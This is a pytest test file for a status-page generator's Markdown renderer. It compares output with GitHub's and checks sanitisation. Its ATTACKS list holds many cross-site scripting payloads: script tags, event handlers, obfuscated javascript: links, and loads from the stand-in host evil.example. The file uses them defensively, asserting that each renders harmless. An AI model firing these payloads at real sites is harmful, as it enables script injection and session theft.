"""What GitHub shows for a text is what the page shows, and nothing in it can do harm."""

import html as entities
import re
from concurrent.futures import ThreadPoolExecutor

import pytest
from github_oracle import github, parsed, shown
from hypothesis import given, settings
from hypothesis import strategies as st

from statusgen.render.markup import html, plain
from statusgen.render.markup.page import sanitised

AS_ON_GITHUB = {
    "soft line breaks": "Checkout is slow.\nCarts are safe.",
    "hard line breaks": "first  \nsecond\\\nthird",
    "emphasis": "*a* **b** ***c*** _d_ __e__",
    "nested emphasis": "**payments *in the EU* fail** and *carts **do not***",
    "stars that mean nothing": "2 * 3 * 4 and 5*6*7 and **open",
    "words with underscores": "set max_pool_size and _retry_ for snake_case_names, not __init__ alone",
    "emphasis beside punctuation": '**Impact:**payments, **"quoted"**x, (*yes*)',
    "strikethrough": "~~all customers~~ one in five",
    "strikethrough around emphasis": "~~all **EU** customers~~",
    "code": "run `kubectl get pods` or ``a ` b``",
    "code with spaces": "`` ` `` and ` a` and `a\nb`",
    "code keeps mark-up": "`*a* <b> &amp; [c](d)`",
    "unclosed code": "a ` b `` c",
    "escapes": r"\*not\* \_me\_ \# 1\. \[a](b) \`c\` \<b> \\ \d",
    "entities": "&amp; &copy; &#35; &#x41; &nbsp;x &unknown; & &lt;b&gt; &amp;lt;",
    "less than": "latency < 5 s and > 3 s, a<b",
    "bare address": "See https://status.acme.example/incidents/a_b_c?x=1&y=2#z.",
    "bare address in brackets": "(see http://acme.example/a_(b)) and http://acme.example/c).",
    "bare address in emphasis": "**http://acme.example/x** and *www.acme.example*",
    "bare address with port": "http://localhost:8080/health, now",
    "www": "www.acme.example/path, www.acme.example.",
    "no address": "xhttp://acme.example http:// https://a_b.c_d www_a.b",
    "mail": "Write to on-call@acme.example, or me@localhost.",
    "bracketed addresses": "<https://acme.example/a?b> <sre@acme.example>",
    "links": '[runbook](https://acme.example/r "Read me") and [here](/relative) and [there](#below)',
    "links with emphasis": "[the **new** `runbook`](https://acme.example/r) and *[a](b)*",
    "links with parentheses": "[a](https://acme.example/b_(c)_d) [e](<f g>)",
    "no links": "[a](b c) [a] (b) [a [b]",
    "empty link": "[a]() [b](<>)",
    "link in brackets": "[[a](b)] and [a]] and \\[a](b)",
    "link in link": "[a [b](c) d](e)",
    "references": "[Runbook][r], [r][], [r], [R  x]\n\n[r]: https://acme.example/r 'Title'\n[r x]: <b c>",
    "references before use": "[a]: /x\n[b]: /y\ntext [a] [b] [c]",
    "comments": "a <!-- b --> c <?d?> e\n\n<!-- f\n\ng -->\nh",
    "headings": "# One\n## Two\n### Three ###\n#No\n####### No",
    "headings without a blank line": "text\n# Heading\ntext",
    "underlined headings": "One\n===\nTwo\nlines\n---\ntext",
    "rules": "a\n\n---\n***\n_ _ _\nb",
    "bullets": "- a\n- b\n* c\n+ d",
    "list without a blank line": "We saw:\n- errors\n- timeouts\nand more",
    "list nested by two": "- a\n  - b\n    - c\n  - d\n- e",
    "list nested by four": "- a\n    - b\n        - c\n- d",
    "list nested by tab": "- a\n\t- b\n1. c\n\t- d",
    "numbers": "3. a\n4. b\n\n7) c",
    "a number that is none": "It happened in\n2026. Then it stopped.\n\n1.5 and 2.x",
    "numbers inside bullets": "- a\n  1. b\n  2. c\n\n     more of c\n- d",
    "loose list": "- a\n\n- b\n- c",
    "tight list after a loose one": "- a\n\n  more\n- b\n\ntext\n- c\n- d",
    "paragraph in a list": "- a\n\n  b\n- c\n\nd",
    "lazy lines": "- a\nb\n> c\nd",
    "code in a list": "1. run\n   ```sh\n   make\n   ```\n2. done\n\n       indented\n",
    "quote in a list": "- a\n  > b\n  > c\n- d",
    "heading in a list": "- # a\n- b\n  ---\n",
    "empty items": "-\n- a\n-\n\n1.",
    "list after quote": "> a\n- b\n> - c\n>   - d\n>\n> e",
    "quotes": "> a\n> b\n>> c\n\n> d",
    "quote with code": "> ```\n> a\n> ```\n> b\n```\nc\n```",
    "tasks": "- [ ] tell support\n- [x] roll back\n- [X] **check**\n- [y] no\n- [ ]no\n\n1. [x] yes",
    "fences": "```python\nif a < b & c:\n    *x*\n\n```\n~~~\n```\n~~~\n````md\n```\n````",
    "fence without end": "text\n```\ncode\n\nmore",
    "fence in the middle": "text\n```json\n{}\n```\ntext",
    "indented code": "text\n\n    code\n\n      more\n\ntext\n    no code",
    "tables": "| Region | Errors |\n|:--|--:|\n| EU | 20% |\n| `a\\|b` | **c** |",
    "tables without edges": "Region | Errors\n--- | :-:\nEU | 20%\nUS\na | b | c\n\nafter",
    "table after text": "text\n| a |\n|---|\n| b |\n- c",
    "no tables": "a | b\n--- | --- | ---\nc | d",
    "windows lines": "a\r\nb\r\n\r\n- c\r\n- d\r\n",
    "unicode": "Überlastung «caffè» **naïve**字 🚒 *é*",
}

# Where we differ on purpose: text, what the page shows, why.
ON_PURPOSE = [
    (
        "![A graph of errors](https://acme.example/g.png)",
        '<p><a href="https://acme.example/g.png">A graph of errors</a></p>',
        "no request leaves the origin: a picture becomes a link to it",
    ),
    ("![The logo](logo.png)", "<p>The logo</p>", "a picture beside the source is not published; its description stays"),
    (
        "![A graph][g] ![g]\n\n[g]: https://acme.example/g.png",
        '<p><a href="https://acme.example/g.png">A graph</a> <a href="https://acme.example/g.png">g</a></p>',
        "the same for one by reference",
    ),
    ("![with [a link](/b) in it](c.png)", '<p>with <a href="/b">a link</a> in it</p>', "its description stays"),
    (
        "[![Build](https://b.example/x.svg)](https://c.example)",
        '<p><a href="https://c.example">Build</a></p>',
        "the same",
    ),
    ("a <b>b</b> c", "<p>a b c</p>", "raw HTML is removed"),
    ("<ul><li>a</li><li>b</li></ul>", "<p>a b</p>", "raw HTML is removed, and its words stay apart"),
    ("<div>\n*a*\n</div>", "<p><em>a</em></p>", "GitHub does not read Markdown between tags, which we removed"),
    ("a <script>b()</script> c", "<p>a c</p>", "GitHub shows the script as text"),
    ("<script>\nb()\n\nc()\n</script>\nd", "<p>d</p>", "the same"),
    ("[a](javascript:b)", "<p>a</p>", "GitHub's page removes the link in a later step"),
    ("[a](ftp://acme.example) ftp://b.example", "<p>a ftp://b.example</p>", "only http, https and mailto are linked"),
    ("[a](//acme.example/b)", "<p>a</p>", "an address without scheme hides that it leads elsewhere"),
    (
        "[see https://b.example",
        '<p>[see <a href="https://b.example">https://b.example</a></p>',
        "GitHub's bracket is a quirk",
    ),
    (
        "- [x] a\n\n  b",
        '<ul><li><p><input disabled checked type="checkbox"> a</p><p>b</p></li></ul>',
        "the box stands in the paragraph that names it",
    ),
    ("a\x02b&#2;c", "<p>a\ufffdb\ufffdc</p>", "no control character reaches a feed"),
    ("```a|b\nc\n```", "<pre><code>c\n</code></pre>", "only what can be a language's name becomes a class"),
]

# Our own collection of what has been used against renderers of Markdown.
ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=body></form>",
    "<p id=location name=cookie class=evil style=x>y</p>",
    "<math><mi xlink:href='javascript:alert(1)'>x",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt:alert(1))",
    "[a](java\tscript:alert(1))",
    "[a](java&#115;cript:alert(1))",
    "[a](javascript&colon;alert(1))",
    "[a](java&NewLine;script:alert(1))",
    "[a](&#x01;javascript:alert(1))",
    "[a]( javascript:alert(1))",
    "[a](<javascript:alert(1)>)",
    "[a](\\javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](vbscript:msgbox(1))",
    "[a](file:///etc/passwd)",
    "[a](//evil.example)",
    "[a](/\\evil.example)",
    "[a](http:evil.example)",
    '[a](http://x "onmouseover=alert(1) x")',
    "[a](http://x '\"><script>alert(1)</script>')",
    '[a](http://x/"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    '<http://x/"onmouseover="alert(1)>',
    "![a](javascript:alert(1))",
    '![a"onerror="alert(1)](https://x.example/y)',
    "[a]: javascript:alert(1)\n\n[a]",
    '```"><script>alert(1)</script>\nx\n```',
    "~~~x onclick=alert(1)\nx\n~~~",
    "http://x/<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    '<a\nhref="javascript:alert(1)"\n>x</a>',
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php alert(1) ?><x y='",
    "| <img src=x onerror=alert(1)> |\n|---|\n| [a](javascript:b) |",
    "- [ ] <input onfocus=alert(1) autofocus>",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 \x02amp\x03lt;script>",
]

PIECES = [
    *"*_~`[]()<>!#-+|\\&;:\"'= \t\n\r\x00\x02\x03", "\n\n", "    ", "- ", "1. ", "> ", "```", "](", "![", "[ ] ",
    "a|b\n-|-\n", "http://a.b", "www.c.d", "e@f.g", "[a]: ", "<script>", "javascript:", " onload=x", "<a href=", "<!--",
    "&#1;", "word", "Ä", "\u2028", "\U0001f692", "\u0301",
]  # fmt: skip
MARKDOWN = st.lists(st.sampled_from(PIECES), max_size=25).map("".join)


@pytest.mark.parametrize("name", AS_ON_GITHUB)
def test_a_text_is_shown_as_on_github(name: str) -> None:
    text = AS_ON_GITHUB[name]
    assert shown(html(text)) == github(text)


@pytest.mark.parametrize(("text", "expected"), [(text, expected) for text, expected, _ in ON_PURPOSE])
def test_where_we_differ_from_github_we_mean_to(text: str, expected: str) -> None:
    assert shown(html(text)) == shown(expected)
    assert shown(html(text)) != github(text, raw=True)


def test_line_breaks_may_be_written_as_tags_since_a_cell_cannot_do_without() -> None:
    text = "a<br>b<br />c\n\n| d |\n|---|\n| e<br/>f |"
    assert shown(html(text)) == github(text, raw=True)


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_leaves_nothing_but_harmless_text_and_links(text: str) -> None:
    assert_harmless(html(text))


@settings(max_examples=300, deadline=None)
@given(st.one_of(MARKDOWN, st.text(max_size=200)))
def test_any_text_becomes_harmless_html_that_cleaning_again_does_not_change(text: str) -> None:
    made = html(text)
    assert sanitised(made) == made
    assert_harmless(made)


@settings(max_examples=150, deadline=None)
@given(MARKDOWN, MARKDOWN)
def test_no_text_changes_how_another_is_shown(first: str, second: str) -> None:
    alone = afresh(second)
    afresh(first)
    assert afresh(second) == alone


def afresh(text: str) -> str:
    """Rendered, not remembered."""
    html.cache_clear()
    return html(text)


def test_no_bracket_of_a_title_stands_in_the_page_as_such() -> None:
    """HTML allows it, but feeds are XML, and readers of both have been wrong about it."""
    made = html("[a](https://b.example '<a href=')")
    assert 'title="&lt;a href="' in made
    assert made.count("<") == 4


def assert_harmless(made: str) -> None:
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f\ufffe\uffff]", made)
    for node in parsed(made).every():
        assert node.tag in {
            "root", "a", "blockquote", "br", "code", "del", "em", "h3", "h4", "h5", "h6", "hr", "input", "label", "li",
            "ol", "p", "pre", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
        }  # fmt: skip
        assert set(node.attributes) <= {"href", "title", "rel", "class", "start", "type", "disabled", "checked"}
        if node.tag == "input":
            assert node.attributes["type"] == "checkbox"
            assert "disabled" in node.attributes
        if node.tag == "a":
            assert node.attributes["rel"] == "nofollow noopener noreferrer"
            assert_safe_address(node.attributes["href"])
        for name in node.attributes.get("class", "").split():
            assert re.fullmatch(r"task|align-(left|right|center)|language-[\w+#.-]+", name, re.A)


def assert_safe_address(href: str) -> None:
    """As a browser reads it: white space and control characters inside a scheme do not count."""
    address = re.sub("[\x00-\x20]", "", entities.unescape(href)).replace("\\", "/").lower()
    assert not address.startswith("//")
    scheme = re.match("([a-z][a-z0-9+.-]*):", address)
    assert scheme is None or scheme[1] in {"http", "https", "mailto"}


def test_a_definition_in_one_text_is_unknown_in_the_next() -> None:
    assert "href" in html("[a]\n\n[a]: https://acme.example")
    assert html("[a] and [a][a]") == "<p>[a] and [a][a]</p>"


def test_brackets_of_one_paragraph_are_not_looked_for_in_another() -> None:
    assert html("![i](x) [a](b)\n\n[i](x) [a](b)").count("<a ") == 3


def test_headings_begin_below_those_of_the_page_and_skip_no_level() -> None:
    made = html("## Cause\n\n#### Detail\n\n## Lessons")
    assert re.findall("<h([1-6])>", made) == ["3", "4", "3"]


def test_a_task_is_named_by_the_text_beside_it() -> None:
    made = html("- [x] roll *back*\n  - [ ] check")
    label = '<label><input checked="checked" disabled="disabled" type="checkbox"> roll <em>back</em></label>'
    assert label in made
    assert made.count("<label>") == 2


def test_a_long_address_used_by_many_references_does_not_grow_without_end() -> None:
    text = f"[a]: /{'x' * 10_000}\n\n" + "[a] " * 1_000
    assert len(html(text)) < 250_000


def test_short_rows_of_a_very_wide_table_are_not_filled_up_without_end() -> None:
    text = "|a" * 1_000 + "\n" + "|-" * 1_000 + "\n" + "b\n" * 2_000
    assert len(html(text)) < 600_000


def test_nesting_beyond_the_limit_is_shown_as_text() -> None:
    assert html(">" * 500 + " deep").count("<blockquote>") == 20
    assert "deep" in html("- " * 500 + "deep")


def test_pictures_nested_beyond_the_limit_are_text() -> None:
    assert shown(html("![" * 5 + "a" + "](b)" * 5)) == shown("<p>a</p>")
    assert "![" in html("![" * 500 + "a" + "](b)" * 500)


def test_threads_do_not_disturb_each_other() -> None:
    texts = [f"[a{n}] *b{n}* `c`\n\n- d\n\n[a{n}]: https://acme.example/{n}" for n in range(50)]
    alone = [afresh(text) for text in texts]
    html.cache_clear()
    with ThreadPoolExecutor(4) as pool:
        assert list(pool.map(html, texts * 4)) == alone * 4


PLAIN = {
    "": "",
    "One\ntwo.\n\nThree.": "One two.\n\nThree.",
    "a  \nb": "a\nb",
    "**Bold** and `code`, ~~not~~ &lt;b&gt;": "Bold and code, not <b>",
    "See [the runbook](https://acme.example/r).": "See the runbook (https://acme.example/r).",
    "https://acme.example and www.acme.example": "https://acme.example and www.acme.example",
    "Write to sre@acme.example or [us](mailto:sre@acme.example)": "Write to sre@acme.example or us (sre@acme.example)",
    "# Cause\nA bad deploy.": "Cause\n\nA bad deploy.",
    "We saw:\n- a\n- b\n  1. c\n  2. d\n- e": "We saw:\n\n- a\n- b\n  1. c\n  2. d\n- e",
    "9. a\n10. b\n\n    c": "9. a\n10. b\n\n    c",
    "- [ ] tell support\n- [x] roll back": "- [ ] tell support\n- [x] roll back",
    "> a\n>\n> - b\n\nc": "> a\n>\n> - b\n\nc",
    "```\nx = 1\n\n  y\n```\nz": "    x = 1\n\n      y\n\nz",
    "| a | b |\n|---|---|\n| c | d |": "a | b\nc | d",
    "a\n\n---\n\nb": "a\n\n---\n\nb",
    "![A graph](https://acme.example/g.png)": "A graph (https://acme.example/g.png)",
    "a <script>x()</script><b>c</b>": "a c",
}


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_says_the_same_without_looks(text: str) -> None:
    assert plain(text) == PLAIN[text]


@settings(max_examples=200, deadline=None)
@given(MARKDOWN)
def test_plain_text_of_anything_has_neither_tags_of_ours_nor_blank_edges(text: str) -> None:
    made = plain(text)
    assert made == made.strip("\n")
    assert "\n\n\n" not in made or "    " in made  # only code keeps its blank lines
    assert not re.search("[\x00-\x08\x0b-\x1f]", made)
